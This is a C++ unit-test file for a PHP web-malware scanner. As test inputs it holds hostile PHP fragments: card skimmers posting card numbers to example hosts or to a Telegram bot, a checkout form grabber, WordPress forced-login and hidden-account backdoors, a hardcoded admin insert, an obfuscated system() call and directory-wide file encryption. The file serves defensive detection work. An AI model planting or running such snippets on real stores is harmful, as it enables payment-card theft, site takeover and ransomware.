// File-wide facts of a PHP layer (php_facts.cc): the file's own functions and the parameters
// their bodies call, reflected execution sinks, image metadata, results of calls through a
// variable; and the web-ransomware trait (a file overwritten with an encrypted copy of itself),
// high only beside a directory walk.
#include "webroot/php_facts.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace tq::webroot::php {
namespace {

struct Layer {
  explicit Layer(std::string_view src)
      : tokens(LexPhp(src, false, LexLimits()).tokens), taint(tokens) {
    taint.Propagate();
  }
  std::vector<Token> tokens;
  PhpTaint taint;
};

TEST(PhpFacts, OwnFunctionsReflectedSinksMetadataAndVariableCalls) {
  Layer l(
      "<?php function Run($fn, $arg) { return $fn($arg); }\n"
      "function Noop($a) { return strlen($a); }\n"
      "$r = new ReflectionFunction('system');\n"
      "$m = exif_read_data('/tmp/a.jpg');\n"
      "$f = 'trim'; $c = $f(' x ');\n");
  FileFacts f = CollectFileFacts(l.tokens, l.taint);
  ASSERT_TRUE(f.own.count("run"));
  EXPECT_EQ(f.own["run"].params, (std::vector<std::string>{"$fn", "$arg"}));
  EXPECT_EQ(f.own["run"].called, (std::set<size_t>{0}));  // the body calls its first parameter
  ASSERT_TRUE(f.own.count("noop"));
  EXPECT_TRUE(f.own["noop"].called.empty());
  EXPECT_EQ(f.reflected_sinks["$r"], "system");
  EXPECT_TRUE(f.image_metadata.count("$m"));
  EXPECT_TRUE(f.variable_call_results.count("$c"));
}

TEST(PhpFacts, ReflectionOfOrdinaryFunctionsIsNoSink) {
  Layer l("<?php $r = new ReflectionFunction('strlen'); $h = new ReflectionFunction($cb);");
  EXPECT_TRUE(CollectFileFacts(l.tokens, l.taint).reflected_sinks.empty());
}

int RansomStrength(std::string_view src) {
  Layer l(src);
  std::vector<CodeTrait> out;
  AnalyzeRansomware(l.tokens, l.taint, "php", out);
  int s = 0;
  for (const CodeTrait& t : out) s = std::max(s, t.strength);
  return s;
}

TEST(PhpFacts, FilesOverwrittenWithTheirEncryptedCopy) {
  std::string body =
      "$d = file_get_contents($f); $e = openssl_encrypt($d, 'aes-256-cbc', $k, 0, $iv);"
      " file_put_contents($f, $e);";
  // Over every file of a directory tree: high.
  EXPECT_GE(RansomStrength("<?php foreach (new RecursiveIteratorIterator(new "
                           "RecursiveDirectoryIterator('.')) as $f) { " +
                           body + " }"),
            3);
  // One file encrypted in place, no walk: weaker.
  int one = RansomStrength("<?php $f = 'config.php'; " + body);
  EXPECT_GT(one, 0);
  EXPECT_LT(one, 3);
  // Encrypting data into another file (a backup tool) is not it, nor is a plain copy.
  EXPECT_EQ(RansomStrength("<?php foreach (glob('*.sql') as $f) { $d = file_get_contents($f);"
                           " file_put_contents($f . '.enc', openssl_encrypt($d, 'aes-256-cbc',"
                           " $k)); }"),
            0);
  EXPECT_EQ(RansomStrength("<?php foreach (scandir('.') as $f) { $d = file_get_contents($f);"
                           " file_put_contents($f, strtoupper($d)); }"),
            0);
}

bool Has(const std::vector<CodeTrait>& out, std::string_view id) {
  for (const CodeTrait& t : out)
    if (t.id == id) return true;
  return false;
}

// The traits one of the file-wide analyses finds in a snippet.
std::vector<CodeTrait> Traits(LayerAnalysis analyze, const std::string& src) {
  Layer l(src);
  std::vector<CodeTrait> out;
  analyze(l.tokens, l.taint, "php", out);
  return out;
}

TEST(PhpFacts, NonAlphanumericCallsAndEncoderNames) {
  // A function name made with ~ on bytes, in variables named by underscores, then called.
  EXPECT_TRUE(Has(Traits(AnalyzeNonAlphanumeric,
                         "<?php $__ = ~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\"; $___ = $_POST;"
                         " $____ = 'c'; $__($___[$____]);"),
                  "obfuscation.non_alphanumeric_call"));
  // Underscore names without byte operators (a loop counter and a helper) are not it.
  EXPECT_FALSE(Has(Traits(AnalyzeNonAlphanumeric,
                          "<?php $__ = 'trim'; $___ = ' a '; $____ = 1; echo $__($___);"),
                   "obfuscation.non_alphanumeric_call"));
  // Names of bytes above ASCII: counted, but never a finding alone.
  std::vector<CodeTrait> enc =
      Traits(AnalyzeNonAlphanumeric,
             "<?php $\xa1\xa2 = 1; $\xa3\xa4 = 2; function \xa5\xa6() {} $\xa7\xa8 = 3;");
  ASSERT_TRUE(Has(enc, "obfuscation.high_byte_names"));
  for (const CodeTrait& t : enc) {
    if (t.id == "obfuscation.high_byte_names") {
      EXPECT_FALSE(t.alone);
    }
  }
  EXPECT_FALSE(Has(Traits(AnalyzeNonAlphanumeric, "<?php $caf\xc3\xa9 = 1; $na\xc3\xafve = 2;"),
                   "obfuscation.high_byte_names"));
}

TEST(PhpFacts, ExecutablesCarriedInLiterals) {
  std::string hex = "0x4d5a90000300000004000000ffff0000";
  while (hex.size() < 4096) hex += "00b8000000000000004000000000000000";
  EXPECT_TRUE(Has(
      Traits(AnalyzeEmbeddedExecutable, "<?php $dll = '" + hex + "'; mysql_query(\"S \" . $dll);"),
      "php.embedded_executable"));
  // A long hex literal that is no executable (a key, a colour table) is not it; nor a short
  // "MZ" header in a file-type table.
  EXPECT_FALSE(
      Has(Traits(AnalyzeEmbeddedExecutable, "<?php $k = '" + std::string(4096, 'a') + "';"),
          "php.embedded_executable"));
  EXPECT_FALSE(Has(
      Traits(AnalyzeEmbeddedExecutable, "<?php $types = ['4d5a' => 'application/x-msdownload'];"),
      "php.embedded_executable"));
}

TEST(PhpFacts, CardNumbersMailedAreACardCopy) {
  EXPECT_TRUE(Has(Traits(AnalyzeCardMailer,
                         "<?php $body = ''; foreach ($order as $k => $v) { $body .= $k . $v; }\n"
                         "$bin = substr($data['cc_number'], 0, 6); $subject = 'New ' . $bin;\n"
                         "mail($to, $subject, $body);"),
                  "php.card_data_mailer"));
  // A receipt naming the card holder and the last four digits is not it.
  EXPECT_FALSE(Has(Traits(AnalyzeCardMailer,
                          "<?php $msg = 'Paid by ' . $order['cc_owner'] . ' card ' ."
                          " $order['cc_last4']; mail($customer, 'Receipt', $msg);"),
                   "php.card_data_mailer"));
  // A framework mailer's method of the same name is judged by the call it makes, not by its
  // name.
  EXPECT_FALSE(Has(Traits(AnalyzeCardMailer, "<?php $n = $p['cc_number']; $this->mail($n);"),
                   "php.card_data_mailer"));
}

const CodeTrait* Find(const std::vector<CodeTrait>& t, std::string_view id) {
  for (const CodeTrait& c : t)
    if (c.id == id) return &c;
  return nullptr;
}

TEST(PhpFacts, CardDataSentToAHostNamedInTheCode) {
  // A payment model patched to post each card away: medium with the host named (a gateway's
  // own host is dropped later, in findings.cc, by the list of payment providers)...
  std::vector<CodeTrait> plain =
      Traits(AnalyzeCardMailer,
             "<?php $d = array('n' => $info->getCcNumber(), 'c' => $info->getCcCid());\n"
             "$ch = curl_init('https://stats.example.net/collect');\n"
             "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($d)); curl_exec($ch);");
  const CodeTrait* sent = Find(plain, "php.card_data_sender");
  ASSERT_NE(sent, nullptr);
  EXPECT_EQ(sent->strength, 2);
  EXPECT_EQ(sent->target_host, "stats.example.net");
  // ...high when the card values are encoded on the way or the destination is an image.
  const CodeTrait* hidden =
      Find(Traits(AnalyzeCardMailer,
                  "<?php $line = base64_encode($p->getCcNumber() . '|' . $p->getCcCid());\n"
                  "@file_get_contents('http://img.example.org/p.gif?d=' . urlencode($line));"),
           "php.card_data_sender");
  ASSERT_NE(hidden, nullptr);
  EXPECT_EQ(hidden->strength, 3);
  // A request that carries no card field, or card data kept in the store, is not it.
  EXPECT_EQ(Find(Traits(AnalyzeCardMailer,
                        "<?php $n = $order->getCcNumber(); $this->save($n);\n"
                        "$r = file_get_contents('https://api.example.com/rates?c=' . $cur);"),
                 "php.card_data_sender"),
            nullptr);
}

TEST(PhpFacts, CardsAndLoginsRelayedByWpMailOrToAChatBot) {
  EXPECT_TRUE(Has(Traits(AnalyzeCardMailer,
                         "<?php $b = 'card ' . $_POST['payment']['cc_number'];"
                         " wp_mail('x@example.net', 'n', $b);"),
                  "php.card_data_mailer"));
  EXPECT_TRUE(Has(Traits(AnalyzeCardMailer,
                         "<?php $m = $_POST['login'] . ':' . $_POST['password'];"
                         " file_get_contents('https://api.telegram.org/bot1:A/sendMessage?text=' ."
                         " urlencode($m));"),
                  "php.request_to_chat_bot"));
  // An order notice the shop sends its own Telegram chat carries no visitor input.
  EXPECT_FALSE(Has(Traits(AnalyzeCardMailer,
                          "<?php $m = 'Order ' . $order->getIncrementId();"
                          " file_get_contents('https://api.telegram.org/bot1:A/sendMessage?text=' ."
                          " urlencode($m));"),
                   "php.request_to_chat_bot"));
}

TEST(PhpFacts, WholeFormsCapturedOnCheckoutOrIntoDisguisedFiles) {
  auto strength = [](const std::vector<CodeTrait>& traits) {
    for (const CodeTrait& c : traits)
      if (c.id == "php.form_grabber") return c.strength;
    return 0;
  };
  EXPECT_EQ(strength(Traits(AnalyzeFormGrabber,
                            "<?php if (strpos($_SERVER['REQUEST_URI'], 'checkout') !== false) {"
                            " $d = json_encode($_POST); file_put_contents('/tmp/s.log', $d,"
                            " FILE_APPEND); }")),
            3);
  EXPECT_EQ(strength(Traits(AnalyzeFormGrabber,
                            "<?php fwrite(fopen('x', 'a'), 1); file_put_contents("
                            "'/var/www/pub/media/.thumbs', serialize($_POST), FILE_APPEND);")),
            3);
  // A developer's debug log of the form is weak; one field written is not the whole form.
  EXPECT_EQ(strength(Traits(AnalyzeFormGrabber,
                            "<?php file_put_contents('/tmp/debug.log',"
                            " print_r($_POST, true), FILE_APPEND);")),
            1);
  EXPECT_EQ(strength(Traits(AnalyzeFormGrabber,
                            "<?php file_put_contents('/tmp/n.txt', $_POST['note']);")),
            0);
}

TEST(PhpFacts, FixedAccountLoginOnARequestIsABackdoor) {
  EXPECT_TRUE(Has(Traits(AnalyzeForcedLogin,
                         "<?php add_action('init', function () { if (isset($_GET['go'])) {\n"
                         " wp_set_current_user(1); wp_set_auth_cookie(1); } });"),
                  "php.forced_login"));
  EXPECT_TRUE(Has(Traits(AnalyzeForcedLogin,
                         "<?php if ($_COOKIE['k'] == 'x') { $u = get_user_by('login', 'admin');\n"
                         " wp_set_auth_cookie($u->ID); }"),
                  "php.forced_login"));
  // A "switch to user" feature checks the capability and a nonce first.
  EXPECT_FALSE(Has(Traits(AnalyzeForcedLogin,
                          "<?php if (current_user_can('edit_users') &&\n"
                          " wp_verify_nonce($_GET['_n'], 'switch')) {\n"
                          " wp_set_auth_cookie((int) $_GET['user']); }"),
                   "php.forced_login"));
  // A login form signs in with the password the visitor gave.
  EXPECT_FALSE(Has(Traits(AnalyzeForcedLogin,
                          "<?php $u = wp_signon(array('user_login' => $_POST['log'],\n"
                          " 'user_password' => $_POST['pwd'])); wp_set_current_user(1);"),
                   "php.forced_login"));
}

TEST(PhpFacts, AdministratorsWithAFixedPasswordAndPaymentTableDumps) {
  EXPECT_TRUE(Has(Traits(AnalyzeStoreAccountAndDataTheft,
                         "<?php $u = Mage::getModel('admin/user'); $u->setData(array("
                         "'username' => 'support', 'password' => 'x1x2x3x4', 'is_active' => 1))"
                         "->save(); $u->setRoleIds(array(1))->saveRelations();"),
                  "php.fixed_admin_account"));
  // The admin form saves what the person typed.
  EXPECT_FALSE(Has(Traits(AnalyzeStoreAccountAndDataTheft,
                          "<?php $u = $this->userFactory->create(); $u->setData($data);"
                          " $u->setPassword($data['password']); $u->setRoleId($roleId);"
                          " $u->save();"),
                   "php.fixed_admin_account"));
  EXPECT_TRUE(Has(Traits(AnalyzeStoreAccountAndDataTheft,
                         "<?php require __DIR__ . '/app/bootstrap.php'; $c = $om->get('R')"
                         "->getConnection(); echo json_encode($c->fetchAll("
                         "'SELECT * FROM sales_order_payment'));"),
                  "php.store_data_dump"));
  EXPECT_TRUE(Has(Traits(AnalyzeStoreAccountAndDataTheft,
                         "<?php $db->query(\"INSERT INTO admin_user (username, password) VALUES"
                         " ('sysadmin', 'e10adc3949ba59abbe56e057f20f883e')\");"),
                  "php.sql_admin_account"));
  // Reading the table, or a migration naming it further on, is not making an account.
  EXPECT_FALSE(Has(Traits(AnalyzeStoreAccountAndDataTheft,
                          "<?php $n = $db->fetchOne('SELECT count(*) FROM admin_user');"
                          " $db->query(\"INSERT INTO audit_log (note) VALUES ('admin_user')\");"),
                   "php.sql_admin_account"));
  // A report of the store's own orders inside the application is not a page of its own.
  EXPECT_FALSE(Has(Traits(AnalyzeStoreAccountAndDataTheft,
                          "<?php $rows = $c->fetchAll('SELECT method FROM sales_order_payment');"
                          " echo count($rows);"),
                   "php.store_data_dump"));
}

TEST(PhpFacts, AccountsLeftOutOfTheUserList) {
  EXPECT_TRUE(Has(Traits(AnalyzeHiddenAccount,
                         "<?php add_action('pre_user_query', function ($q) { global $wpdb;"
                         " $q->query_where .= \" AND {$wpdb->users}.user_login != 'wp_help'\";"
                         " });"),
                  "php.hidden_account"));
  // A membership plugin narrowing the list by role is not hiding a login.
  EXPECT_FALSE(Has(Traits(AnalyzeHiddenAccount,
                          "<?php add_action('pre_user_query', function ($q) {"
                          " $q->query_where .= \" AND meta_value LIKE '%member%'\"; });"),
                   "php.hidden_account"));
  EXPECT_TRUE(ImageNamedPath("/pub/media/favicon_3ab1.ico"));
  EXPECT_TRUE(ImageNamedPath("fonts/a.WOFF2?v=3"));
  EXPECT_FALSE(ImageNamedPath("templates/icons.svg.php"));
}

}  // namespace
}  // namespace tq::webroot::php
